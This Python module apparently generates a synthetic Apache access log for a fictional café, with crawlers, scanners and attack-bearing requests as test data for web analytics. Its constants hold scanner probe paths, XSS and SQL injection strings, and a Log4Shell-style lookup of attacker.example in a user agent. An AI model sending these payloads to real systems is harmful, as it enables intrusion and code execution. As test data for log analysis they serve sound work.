"""All traffic of the café, hour by hour, and a range of hours in memory with its true figures.

Visits and crawls that start in an hour may continue in later hours.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cached_property
from itertools import chain
from random import Random
from typing import NamedTuple
from urllib.parse import quote, urlsplit

from clickstream.core.errors import InputError
from clickstream.core.hours import Hour, hour_range
from clickstream.demo.cafe import addresses, agents, menu, story, trouble
from clickstream.demo.cafe.arrivals import DIRECTLY, CafeArrival
from clickstream.demo.cafe.browser import Browser
from clickstream.demo.cafe.people import people
from clickstream.demo.cafe.rules import (
    HOUR,
    MINUTE,
    OPENED,
    SECOND,
    STANDARD,
    CafeRules,
    dice,
    how_many,
    milliseconds,
    some_moment,
)
from clickstream.demo.cafe.trouble import broken_lines
from clickstream.demo.cafe.truth import Truth, TruthTally
from clickstream.demo.cafe.weblog import (
    Ask,
    Client,
    Entry,
    Reply,
    Request,
    VisitSource,
    log,
    render,
)

# Requests of machines: crawlers, the uptime monitor, and scanners.
#
# On one day of the story (see `story`), there are several times as many crawls: by a crawler with a
# known name, and by one that sends a browser's user agent and is detectable only by its behaviour.

WAVE_CRAWLS, HIDDEN_CRAWLS = 5, 0.5
"""Crawls per hour of the wave's named and hidden crawler, as multiples of `bots_per_hour`."""

_READABLE = tuple(page for pages in menu.PAGES.values() for page in pages)

PROBES: dict[str, int] = {
    "/wp-login.php": 404,
    "/.env": 404,
    "/.git/config": 404,
    "/xmlrpc.php": 404,
    "/phpmyadmin/index.php?lang=en": 404,
    "/admin": 404,
    "/backup.zip": 404,
    "/cgi-bin/%%32%65%%32%65/bin/sh": 400,
    "/?q=<script>alert(1)</script>": 200,
    '/cafe/menu.php?id=1\'+or+\\"1\\"=\\"1': 403,
    "/server-status": 403,
}
"""Targets of scanners, as Apache logs them, and the status of the response."""

STRAYS: tuple[tuple[str, int, int | None], ...] = (
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9a\x1f", 400, 484),
    (r"\x16\x03\x01", 400, 484),
    (r"\x03", 400, 484),
    ("PRI * HTTP/2.0", 400, 484),
    ("-", 408, None),
    ("-", 400, 0),
)
"""Bytes that are not an HTTP request, as Apache logs them: TLS on the wrong port, timeouts, aborts.

Each has the logged request, status and size.
"""


def crawlers(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the crawls that start in the hour: robots.txt first, then pages at a regular pace."""
    rng = dice(rules, hour, "crawlers")
    for _ in range(how_many(rng, rules.bots_per_hour)):
        address = addresses.address_in(rng, addresses.CRAWLERS)
        client = Client(address, agents.pick(rng, agents.CRAWLERS), is_machine=True)
        yield from _crawl(rng, rules, client, some_moment(rng, hour))


def wave(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the crawls of the wave of bots that start in the hour."""
    if not story.is_wave(rules, hour):
        return
    rng = dice(rules, hour, "wave")
    for _ in range(how_many(rng, WAVE_CRAWLS * rules.bots_per_hour)):
        address = addresses.address_in(rng, addresses.CRAWLERS)
        client = Client(address, agents.WAVE_CRAWLER, is_machine=True)
        yield from _crawl(rng, rules, client, some_moment(rng, hour))
    hidden = [
        addresses.address_in(rng, addresses.HIDDEN_CRAWLERS)
        for _ in range(how_many(rng, HIDDEN_CRAWLS * rules.bots_per_hour))
    ]
    for address in dict.fromkeys(hidden):  # no two crawls of an hour have the same visitor
        client = Client(address, agents.HIDDEN_CRAWLER, is_machine=True)
        yield from _hidden_crawl(rng, client, milliseconds(hour))


def _hidden_crawl(rng: Random, client: Client, now: int) -> Iterator[Request]:
    """Yield a crawl within one hour, because bot verdicts by behaviour are made for each hour.

    It requests robots.txt first, then many pages without their static files.
    """
    now += rng.randrange(10 * MINUTE)
    yield log(client, now, Ask("GET", "/robots.txt"), Reply(200, 143, 4))
    for _ in range(rng.randint(25, 60)):
        now += rng.randrange(5 * SECOND, 45 * SECOND)
        page = rng.choice(menu.PRODUCT_PAGES)
        yield log(client, now, Ask("GET", page.path), Reply(200, page.size, 60))


def _crawl(rng: Random, rules: CafeRules, client: Client, now: int) -> Iterator[Request]:
    pace = rng.randrange(2, 40) * SECOND
    if rng.random() < 0.6:
        yield log(client, now, Ask("GET", "/robots.txt"), Reply(200, 143, 4))
    for _ in range(rng.randint(1, 14)):
        now += pace + rng.randrange(SECOND)
        page = rng.choice(_READABLE)
        status = 500 if trouble.is_failing(rules, page, now) else 200
        if page.step == "missing":
            status = 404
        yield log(client, now, Ask("GET", page.path), Reply(status, page.size, 180))
        if "Chrome" in client.agent:  # a crawler that runs a browser requests pictures
            loaded_at = now
            for path in page.images[:3]:
                loaded_at += rng.randrange(100, SECOND)
                ask = Ask("GET", path, is_asset=True)
                yield log(client, loaded_at, ask, Reply(200, menu.IMAGES[path], 30))


def monitor(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the requests of the uptime monitor, one each minute."""
    rng = dice(rules, hour, "monitor")
    client = Client(addresses.MONITOR, agents.MONITOR, is_machine=True)
    for minute in range(60):
        now = milliseconds(hour) + minute * MINUTE + rng.randrange(2 * SECOND)
        yield log(client, now, Ask("HEAD", "/"), Reply(200, None, 25))


def scanners(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the scans that start in the hour, and about as many invalid requests."""
    rng = dice(rules, hour, "scanners")
    for _ in range(how_many(rng, rules.scanners_per_hour)):
        now = some_moment(rng, hour)
        address = addresses.address_in(rng, addresses.SCANNERS)
        client = Client(address, agents.pick(rng, agents.SCANNERS), is_machine=True)
        for probe in rng.sample(list(PROBES), rng.randint(2, len(PROBES))):
            now += rng.randrange(50, 3 * SECOND)
            yield log(client, now, Ask("GET", probe), Reply(PROBES[probe], 1_245, 12))
    for _ in range(how_many(rng, rules.scanners_per_hour)):
        now = some_moment(rng, hour)
        client = Client(addresses.address_in(rng, addresses.SCANNERS), "-", is_machine=True)
        sent, status, size = rng.choice(STRAYS)
        yield log(client, now, Ask("", sent), Reply(status, size, 1))


# Requests with scripts or SQL in a logged field, a few each day.
#
# Some are sent by people's browsers, which follow prepared links: the attack is in a path, a
# referrer, a query or a campaign tag. In others it is the user agent. They are written as in
# Apache's log: a quote in a request or a header is `\"`. A page that shows them must escape them as
# text.

PEOPLE_PER_HOUR, MACHINES_PER_HOUR = 0.25, 0.15

SEARCH_PAGES = tuple(
    menu.MenuPage("search", f"/cafe/search/{words}", 3_904)
    for words in (
        "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
        "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        "'onmouseover='alert(1)",
        "%7B%7B7*7%7D%7D",
        "1'%20OR%20'1'='1",
    )
)
"""Pages with the search terms in their path, in the normal form of RFC 3986."""

QUERIES = (
    "q=<script>alert('cakes')</script>",
    "id=1'+OR+'1'='1",
    "id=1;drop+table+sessions;--",
)
REFERRERS = (
    "https://promo.example/<script>alert(1)</script>",
    r"https://deals.example/?q=\"><img src=x onerror=alert(1)>",
    "http://coupons.example/'-alert(1)-'",
)


class DecodedTags(NamedTuple):
    """Decoded campaign tags, and the channel that follows from them."""

    source: str
    medium: str
    campaign: str
    channel: str


TAGS = (
    DecodedTags("<script>alert(1)</script>", "email", '"><img src=x onerror=alert(1)>', "Email"),
    DecodedTags("newsletter", "email", "'; drop table sessions; --", "Email"),
    DecodedTags("<svg/onload=alert(1)>", "banner", "javascript:alert(1)", "Display"),
    DecodedTags("partner", "referral", "{{constructor.constructor('alert(1)')()}}", "Referral"),
)
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) <script>alert(1)</script>",
    r"Mozilla/5.0 \"><img src=x onerror=alert(1)>",
    "Mozilla/5.0 (compatible) ' OR '1'='1' --",
    "${jndi:ldap://attacker.example/a}",
)


def hostile_people(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the requests of people who follow a prepared link in the hour."""
    rng = dice(rules, hour, "hostile people")
    if rules.visitors_per_hour and rng.random() < PEOPLE_PER_HOUR:
        yield from _person(rng, rules, hour)


def _person(rng: Random, rules: CafeRules, hour: Hour) -> list[Request]:
    client = Client(addresses.home_address(rng), agents.pick(rng, agents.BROWSERS), "HTTP/2.0")
    browser = Browser(rng, rules, client, some_moment(rng, hour))
    page, arrival = _link(rng)
    browser.land(page, arrival)
    if rng.random() < 0.5:
        browser.wait(rng.randrange(3_000, 40_000))
        browser.follow(menu.HOME)
    return browser.history


def _link(rng: Random) -> tuple[menu.MenuPage, CafeArrival]:
    match rng.choice(("path", "query", "referrer", "tags")):
        case "path":
            return rng.choice(SEARCH_PAGES), DIRECTLY
        case "query":
            return menu.MENU, DIRECTLY._replace(query=rng.choice(QUERIES))
        case "referrer":
            referrer = rng.choice(REFERRERS)
            host = urlsplit(referrer).hostname
            source = VisitSource(host, channel="Referral", source=host, medium="referral")
            return menu.HOME, DIRECTLY._replace(referrer=referrer, source=source)
    tags = rng.choice(TAGS)
    query = "&".join(
        f"utm_{name}={quote(text)}"
        for name, text in zip(("source", "medium", "campaign"), tags, strict=False)
    )
    source = VisitSource(
        None, *tags[:3], channel=tags.channel, source=tags.source, medium=tags.medium
    )
    return menu.HOME, DIRECTLY._replace(query=query, source=source)


def hostile_machines(rules: CafeRules, hour: Hour) -> Iterator[Request]:
    """Yield the requests of the hour with an attack in the user agent."""
    rng = dice(rules, hour, "hostile machines")
    if rules.scanners_per_hour and rng.random() < MACHINES_PER_HOUR:
        address = addresses.address_in(rng, addresses.SCANNERS)
        client = Client(address, rng.choice(AGENTS), is_machine=True)
        ask = Ask("GET", f"{menu.MENU.path}?{rng.choice(QUERIES)}", rng.choice(REFERRERS))
        yield log(client, some_moment(rng, hour), ask, Reply(200, menu.MENU.size, 90))


SOURCES: tuple[Callable[[CafeRules, Hour], Iterator[Entry]], ...] = (
    people, hostile_people, crawlers, wave, monitor, scanners, hostile_machines, broken_lines,
)  # fmt: skip
"""Each yields the entries that start in an hour."""

REACH_HOURS = 26
"""A visit or crawl ends at most this many hours after its first hour; later requests are cut."""


def traffic(rules: CafeRules, first: Hour) -> Iterator[tuple[Hour, list[Entry]]]:
    """Yield each hour from `first` on, without end, with its entries in the order of the log.

    Raises InputError for an hour before the café opened.
    """
    if first < OPENED:
        raise InputError(f"The simulated café opened at {OPENED}; {first} is before that.")
    waiting: defaultdict[int, list[Entry]] = defaultdict(list)
    hour = max(first.minus(REACH_HOURS), OPENED)
    while True:
        now = milliseconds(hour) // HOUR
        for entry in chain.from_iterable(source(rules, hour) for source in SOURCES):
            if entry.received // HOUR <= now + REACH_HOURS:
                waiting[entry.received // HOUR].append(entry)
        entries = waiting.pop(now, [])
        if hour >= first:
            yield hour, sorted(entries, key=lambda entry: entry.written)
        hour = hour.next


@dataclass(frozen=True)
class LogLine:
    """One line of the log: the time at which the server wrote it (UTC), and its bytes with newline.

    The time in the line is that of the request: up to 2 seconds earlier, in the same hour.
    """

    at: datetime
    raw: bytes


@dataclass(frozen=True)
class History:
    """The log of the hours `first` to `last`, both included, and its true figures."""

    first: Hour
    last: Hour
    rules: CafeRules

    @property
    def lines(self) -> Iterator[LogLine]:
        """Yield all lines in the order of the log."""
        for entries in self._entries.values():
            for entry in entries:
                yield LogLine(datetime.fromtimestamp(entry.written / SECOND, UTC), render(entry))

    @cached_property
    def truth(self) -> Truth:
        """The true figures of the lines."""
        tally = TruthTally()
        for hour, entries in self._entries.items():
            tally.add(hour, entries)
        return tally.truth()

    @cached_property
    def _entries(self) -> dict[Hour, list[Entry]]:
        hours = hour_range(self.first, self.last)
        return {
            hour: entries
            for _, (hour, entries) in zip(hours, traffic(self.rules, self.first), strict=False)
        }


def simulate(first: Hour, last: Hour, rules: CafeRules = STANDARD) -> History:
    """Simulate the hours `first` to `last`, both included.

    Raises InputError (when lines or truth are asked for) for hours before the café opened.
    """
    return History(first, last, rules)
